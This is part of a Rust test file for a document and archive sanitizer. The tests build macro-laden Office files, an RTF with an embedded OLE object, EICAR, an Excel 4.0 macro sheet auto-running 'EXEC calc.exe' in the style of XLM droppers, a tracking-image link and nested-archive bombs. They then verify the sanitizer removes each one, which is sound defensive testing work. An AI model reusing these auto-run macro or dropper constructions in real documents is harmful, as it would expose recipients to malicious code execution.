        tool(&out, "unzip", &["-q", a])
    } else {
        tool(&out, "7zz", &["x", "-y", a])
    };
    ok.expect("the unpacking tool is installed");
    let mut files = Vec::new();
    fn walk(root: &Path, d: &Path, files: &mut Vec<String>) {
        for e in std::fs::read_dir(d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(root, &p, files);
            } else {
                files.push(p.strip_prefix(root).unwrap().display().to_string());
            }
        }
    }
    walk(&out, &out, &mut files);
    files.sort();
    files
}

#[test]
fn archives_are_rebuilt_in_their_own_format_without_what_the_scan_blocked() {
    // Archives made by GNU tar, 7-Zip, gcab and xz of a docm with a macro,
    // an RTF with an OLE object, EICAR (on the scanner's hash list) and a
    // text file; each copy is unpacked by the real tool again: the macro
    // and the object are gone (olevba, mraptor), EICAR is replaced by a
    // note, the text is as it was. A cabinet has no writer here: its copy
    // is a zip.
    let dir = tmp();
    let d = dir.path();
    let src = d.join("src");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    let docm = small_docm();
    let rtf: &[u8] = br"{\rtf1 Hi {\object\objemb{\*\objdata 0105}{\result {\pict 00}}}}";
    let notes: &[u8] = b"plain notes, kept as they are\n";
    std::fs::write(src.join("b.docm"), &docm).unwrap();
    std::fs::write(src.join("eicar.com"), EICAR).unwrap();
    std::fs::write(src.join("notes.txt"), notes).unwrap();
    std::fs::write(src.join("sub/c.rtf"), rtf).unwrap();
    let (bad, _) = verifier("olevba", &["-a", src.join("b.docm").to_str().unwrap()]);
    assert!(
        bad.contains("AutoOpen"),
        "olevba does not see the macro:\n{bad}"
    );

    let mut made: Vec<(&str, &str)> = Vec::new();
    let all = ["b.docm", "eicar.com", "notes.txt", "sub"];
    // (archive, converted_to, program, arguments before the members)
    let makers: [(&str, &str, &str, &[&str]); 4] = [
        ("a.tar", "tar", "tar", &["-cf", "../a.tar"]),
        ("a.tgz", "tgz", "tar", &["-czf", "../a.tgz"]),
        ("a.7z", "7z", "7zz", &["a", "-bd", "../a.7z"]),
        // gcab takes files, not directories.
        ("a.cab", "zip", "gcab", &["-cz", "../a.cab"]),
    ];
    for (archive, converted_to, program, args) in makers {
        let mut argv = args.to_vec();
        argv.extend(all.iter().map(|m| {
            if *m == "sub" && program == "gcab" {
                "sub/c.rtf"
            } else {
                *m
            }
        }));
        if tool(&src, program, &argv).is_some() {
            made.push((archive, converted_to));
        }
    }
    if tool(d, "cp", &["a.tar", "b.tar"])
        .and_then(|()| tool(d, "xz", &["-k", "b.tar"]))
        .is_some()
    {
        made.push(("b.tar.xz", "xz"));
    }
    assert!(!made.is_empty());

    let scanner = hash_listed(EICAR);
    for (name, converted_to) in made {
        let data = std::fs::read(d.join(name)).unwrap();
        let report = scanner.scan_bytes(&data, &mdcore::ScanOptions::new().name(name));
        assert!(report.blocked(), "{name}: EICAR is not found");
        let blocked =
            mdcore::sanitize::Blocked::from_report(&report, mdcore::ResultCode::blocks_by_default);
        assert!(!blocked.is_empty(), "{name}");
        let copy = sanitize(&data, name, &SanitizeOptions::new().blocked(blocked)).unwrap();
        assert_eq!(copy.converted_to, converted_to, "{name}");
        let copy_name = mdcore::sanitize::copy_name(name, &copy.converted_to);
        std::fs::write(d.join(&copy_name), &copy.data).unwrap();
        // (GNU tar unpacks the xz copy's tar directly.)
        let files = unpack(d, &copy_name);
        assert_eq!(
            files,
            ["b.docx", "eicar.com.txt", "notes.txt", "sub/c.rtf"],
            "{name}"
        );
        let out = d.join("out");
        let docx = out.join("b.docx");
        let (log, _) = verifier("olevba", &["-a", docx.to_str().unwrap()]);
        assert!(
            !log.contains("AutoOpen"),
            "{name}: olevba on the copy:\n{log}"
        );
        let (log, code) = verifier("mraptor", &[docx.to_str().unwrap()]);
        assert_eq!(code, 0, "{name}: mraptor on the copy:\n{log}");
        let (log, _) = verifier("rtfobj", &[out.join("sub/c.rtf").to_str().unwrap()]);
        assert!(
            log.contains("No OLE objects found") || !log.contains("objemb"),
            "{name}: rtfobj on the copy:\n{log}"
        );
        assert!(!contains(
            &std::fs::read(out.join("sub/c.rtf")).unwrap(),
            b"objdata"
        ));
        assert_eq!(
            std::fs::read(out.join("notes.txt")).unwrap(),
            notes,
            "{name}"
        );
        let note = std::fs::read_to_string(out.join("eicar.com.txt")).unwrap();
        assert!(
            note.contains("the scan blocked it") && note.contains("Test.Planted"),
            "{name}: {note}"
        );
        let removed: Vec<&str> = copy
            .details
            .iter()
            .map(|d| d.object_name.as_str())
            .collect();
        assert!(removed.contains(&"blocked file"), "{name}: {removed:?}");
        assert!(removed.contains(&"macro"), "{name}: {removed:?}");

        // The clean twin: nothing blocked, EICAR stays (the rebuild alone
        // does not judge content).
        let twin = sanitize(&data, name, &SanitizeOptions::new()).unwrap();
        let twin_name = format!("twin-{copy_name}");
        std::fs::write(d.join(&twin_name), &twin.data).unwrap();
        let files = unpack(d, &twin_name);
        assert!(
            files.contains(&"eicar.com".to_string()),
            "{name}: {files:?}"
        );
        assert_eq!(std::fs::read(d.join("out/eicar.com")).unwrap(), EICAR);
    }
}

/// A flat ODF spreadsheet of two sheets: `Data` with the text, `Macro1`
/// with XLM-looking formulas and a name `Auto_Open` pointing at it.
const TWO_SHEETS_FODS: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
<office:body><office:spreadsheet>
<table:table table:name="Data"><table:table-row><table:table-cell office:value-type="string"><text:p>TEXT</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell></table:table-row></table:table>
<table:table table:name="Macro1"><table:table-row><table:table-cell office:value-type="string"><text:p>EXEC calc.exe</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell office:value-type="string"><text:p>HALT</text:p></table:table-cell></table:table-row></table:table>
<table:named-expressions><table:named-range table:name="Auto_Open" table:base-cell-address="$Macro1.$A$1" table:cell-range-address="$Macro1.$A$1"/></table:named-expressions>
</office:spreadsheet></office:body></office:document>"#;

/// The workbook stream of `xls` given to `f`, written back.
fn edit_workbook(xls: &[u8], f: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::open(std::io::Cursor::new(xls.to_vec())).unwrap();
    let mut book = Vec::new();
    cf.open_stream("/Workbook")
        .unwrap()
        .read_to_end(&mut book)
        .unwrap();
    f(&mut book);
    {
        use std::io::Write as _;
        cf.create_stream("/Workbook")
            .unwrap()
            .write_all(&book)
            .unwrap();
    }
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

/// (position, BOUNDSHEET record start) of every sheet of a BIFF8 stream.
fn boundsheets(book: &[u8]) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut at = 0;
    while at + 4 <= book.len() {
        let id = u16::from_le_bytes([book[at], book[at + 1]]);
        let len = usize::from(u16::from_le_bytes([book[at + 2], book[at + 3]]));
        if id == 0x0085 {
            let pos = u32::from_le_bytes(book[at + 4..at + 8].try_into().unwrap()) as usize;
            out.push((pos, at));
        }
        if id == 0x000a {
            break;
        }
        at += 4 + len;
    }
    out
}

#[test]
fn an_excel_97_macro_sheet_is_emptied_and_the_workbook_keeps_its_data() {
    // LibreOffice writes a two-sheet workbook; its second sheet is made an
    // Excel 4.0 macro sheet (BOUNDSHEET dt 1, BOF dt 0x40), as the
    // droppers that use XLM do. olevba sees XLM macros; in the copy it
    // sees none, LibreOffice still opens it with the data sheet's text.
    let dir = tmp();
    let d = dir.path();
    // A short text: LibreOffice's PDF cuts a cell at its column's width.
    std::fs::write(
        d.join("two.fods"),
        TWO_SHEETS_FODS.replace("TEXT", "marker 4711"),
    )
    .unwrap();
    if soffice(d, &["--convert-to", "xls:MS Excel 97", "two.fods"]).is_none() {
        return;
    }
    let xls = std::fs::read(d.join("two.xls")).unwrap();
    let xlm = edit_workbook(&xls, |book| {
        let sheets = boundsheets(book);
        assert_eq!(sheets.len(), 2, "LibreOffice wrote {} sheets", sheets.len());
        let (pos, rec) = sheets[1];
        book[rec + 4 + 5] = 1; // BOUNDSHEET dt: macro sheet
        book[pos + 4 + 2..pos + 4 + 4].copy_from_slice(&0x0040u16.to_le_bytes());
    });
    let bad = write(d, "xlm.xls", &xlm);
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("XLM") && !out.contains("No VBA or XLM macros found"),
        "olevba does not see the macro sheet:\n{out}"
    );

    let s = sanitize(&xlm, "xlm.xls", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "xls");
    let kinds: Vec<(&str, u32)> = s
        .details
        .iter()
        .map(|d| (d.object_name.as_str(), d.count))
        .collect();
    assert!(kinds.contains(&("macro sheet", 1)), "{kinds:?}");
    let clean = write(d, "clean-xlm.xls", &s.data);
    let (out, _) = verifier("olevba", &[clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found"),
        "olevba on the copy:\n{out}"
    );
    let (out, code) = verifier("mraptor", &[clean.to_str().unwrap()]);
    assert_eq!(code, 0, "mraptor on the copy:\n{out}");
    let text = text_of_document(d, "clean-xlm.xls", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
    // The macro sheet's cells are gone (its strings stay in the shared
    // string table, which no cell uses any more).
    assert!(!text.contains("EXEC calc.exe"), "{text}");

    // The clean twin: nothing removed, the workbook as LibreOffice wrote it.
    let twin = sanitize(&xls, "two.xls", &SanitizeOptions::new()).unwrap();
    assert!(twin.details.is_empty(), "{:?}", twin.details);
    // The copy sanitizes again with nothing left.
    let again = sanitize(&s.data, "clean-xlm.xls", &SanitizeOptions::new()).unwrap();
    assert!(again.details.is_empty(), "{:?}", again.details);
}

/// A one-slide flat ODF presentation holding the text.
const SLIDE_FODP: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.presentation">
<office:body><office:presentation>
<draw:page draw:name="page1"><draw:frame svg:x="1cm" svg:y="2cm" svg:width="24cm" svg:height="3cm"><draw:text-box><text:p>Quarterly figures, marker 4711</text:p></draw:text-box></draw:frame></draw:page>
</office:presentation></office:body></office:document>"#;

#[test]
fn a_pptm_made_from_a_libreoffice_presentation_comes_out_a_clean_pptx() {
    // LibreOffice writes the pptx; it is given a VBA project (a pptm) and
    // an external image relationship. olevba sees the macro; the copy is
    // a pptx without it that LibreOffice opens with the slide's text.
    let dir = tmp();
    let d = dir.path();
    std::fs::write(d.join("slide.fodp"), SLIDE_FODP).unwrap();
    if soffice(
        d,
        &[
            "--convert-to",
            "pptx:Impress MS PowerPoint 2007 XML",
            "slide.fodp",
        ],
    )
    .is_none()
    {
        return;
    }
    let pptx = std::fs::read(d.join("slide.pptx")).unwrap();
    let mut p = parts(&pptx);
    p.push(("ppt/vbaProject.bin".into(), vba_bin(MACRO)));
    edit(&mut p, "[Content_Types].xml", |s| {
        assert!(s.contains("presentationml.presentation.main+xml"), "{s}");
        s.replace(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        )
        .replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
        )
    });
    edit(&mut p, "ppt/_rels/presentation.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>",
        )
    });
    edit(&mut p, "ppt/slides/_rels/slide1.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            &format!("<Relationship Id=\"rIdExt\" Type=\"{REL}/image\" Target=\"http://images.example.net/track.png\" TargetMode=\"External\"/></Relationships>"),
        )
    });
    let pptm = zip_parts(&p);
    let bad = write(d, "deck.pptm", &pptm);
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("AutoOpen"),
        "olevba does not see the macro:\n{out}"
    );

    let s = sanitize(&pptm, "deck.pptm", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "pptx");
    let removed: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
    assert!(removed.contains(&"macro"), "{removed:?}");
    let clean = write(d, "deck.pptx", &s.data);
    let (out, _) = verifier("olevba", &[clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found"),
        "olevba on the copy:\n{out}"
    );
    let (out, code) = verifier("mraptor", &[clean.to_str().unwrap()]);
    assert_eq!(code, 0, "mraptor on the copy:\n{out}");
    assert!(!contains(&s.data, b"images.example.net"));
    let text = text_of_document(d, "deck.pptx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");

    // The clean twin: nothing to remove.
    let twin = sanitize(&pptx, "slide.pptx", &SanitizeOptions::new()).unwrap();
    assert!(twin.details.is_empty(), "{:?}", twin.details);
    assert_eq!(twin.converted_to, "pptx");
}

/// A member that mdscan opens as a container but can neither rebuild nor
/// sanitize (a mail here: its attachments could hold anything) is left out
/// of the rebuilt archive with a note saying why; it is never passed
/// through. Text and rebuildable members beside it come out as before.
#[test]
fn a_container_member_that_can_not_be_rebuilt_is_left_out_not_passed_through() {
    let mail = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: invoice\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
--b1\r\nContent-Type: application/octet-stream; name=\"x.bin\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gd29ybGQ=\r\n--b1--\r\n";
    let readme: &[u8] = b"nothing to see here\n";
    let inner = tar_of(&[("in.txt", readme)]);
    let zip = zip_of(&[
        ("letter.eml", mail),
        ("readme.txt", readme),
        ("inner.tar", &inner),
    ]);
    assert_eq!(mdcore::detect(mail).kind, mdcore::Kind::Mail);
    let s = sanitize(&zip, "bundle.zip", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "zip");
    let dir = tmp();
    write(dir.path(), "copy.zip", &s.data);
    let files = unpack(dir.path(), "copy.zip");
    assert_eq!(
        files,
        ["inner.tar", "letter.eml.txt", "readme.txt"],
        "{files:?}"
    );
    let out = dir.path().join("out");
    let note = std::fs::read_to_string(out.join("letter.eml.txt")).unwrap();
    assert!(note.contains("can not be rebuilt"), "{note}");
    assert_eq!(std::fs::read(out.join("readme.txt")).unwrap(), readme);
    let removed: Vec<_> = s
        .details
        .iter()
        .filter(|d| d.action == "removed")
        .flat_map(|d| d.object_details.clone())
        .collect();
    assert_eq!(removed, ["letter.eml"], "{:?}", s.details);
}

/// The names a zip lists, read by the `zip` crate (another reader than
/// mdscan's).
fn zip_names(data: &[u8]) -> Vec<String> {
    let z = zip::ZipArchive::new(std::io::Cursor::new(data)).unwrap();
    z.file_names().map(|n| n.unwrap().to_string()).collect()
}

#[test]
fn archives_are_rebuilt_under_the_workflows_limits_with_one_budget_for_the_tree() {
    let limits = |f: &dyn Fn(&mut mdcore::Limits)| {
        let mut l = mdcore::Limits::default();
        f(&mut l);
        SanitizeOptions::new().limits(l)
    };
    // Depth: three zips in one another. Under a depth limit of 2 the one
    // at level 2 is not opened (as a scan would not open it): a note takes
    // its place; with the default limits all are rebuilt.
    let z3 = zip_of(&[("deep.txt", b"deepest")]);
    let z2 = zip_of(&[("z3.zip", &z3)]);
    let z1 = zip_of(&[("z2.zip", &z2), ("top.txt", b"top")]);
    let s = sanitize(&z1, "z1.zip", &limits(&|l| l.max_depth = 2)).unwrap();
    assert_eq!(zip_names(&s.data), ["z2.zip", "top.txt"]);
    let inner = {
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(&s.data)).unwrap();
        let mut buf = Vec::new();
        z.by_name("z2.zip").unwrap().read_to_end(&mut buf).unwrap();
        buf
    };
    assert_eq!(zip_names(&inner), ["z3.zip.txt"]);
    let s = sanitize(&z1, "z1.zip", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty(), "{:?}", s.details);

    // Bytes: each level alone fits in 1 MiB, the tree does not. One budget
    // covers every level, so the copy is refused.
    let block = vec![b'a'; 600 << 10];
    let inner = zip_of(&[("b.txt", &block)]);
    let outer = zip_of(&[("a.txt", &block), ("inner.zip", &inner)]);
    let small = limits(&|l| l.max_total_bytes = 1 << 20);
    let single = zip_of(&[("a.txt", &block)]);
    assert!(sanitize(&single, "one.zip", &small).is_ok());
    assert!(sanitize(&inner, "inner.zip", &small).is_ok());
    match sanitize(&outer, "outer.zip", &small) {
        Err(SanitizeError::Failed(why)) => {
            assert!(why.contains("size or expansion limit"), "{why}")
        }
        other => panic!("a tree past the byte limit was sanitized: {other:?}"),
    }
    // A compressed file's member counts too (gzip of a zip bomb-let).
    match sanitize(&gz(&outer), "outer.zip.gz", &small) {
        Err(SanitizeError::Failed(why)) => {
            assert!(why.contains("size or expansion limit"), "{why}")
        }
        other => panic!("{other:?}"),
    }

    // Objects: 3 at all levels.
    let few = limits(&|l| l.max_objects = 3);
    let three = zip_of(&[("1", b"1"), ("2", b"2"), ("3", b"3")]);
    assert!(sanitize(&three, "three.zip", &few).is_ok());
    let nested = zip_of(&[("1", b"1"), ("z.zip", &zip_of(&[("2", b"2"), ("3", b"3")]))]);
    match sanitize(&nested, "nested.zip", &few) {
        Err(SanitizeError::Failed(why)) => assert!(why.contains("object count"), "{why}"),
        other => panic!("{other:?}"),
    }

    // Time: none at all.
    let now = limits(&|l| l.timeout = std::time::Duration::ZERO);
    match sanitize(&three, "three.zip", &now) {
        Err(SanitizeError::Failed(why)) => assert!(why.contains("time limit"), "{why}"),
        other => panic!("{other:?}"),
    }
}
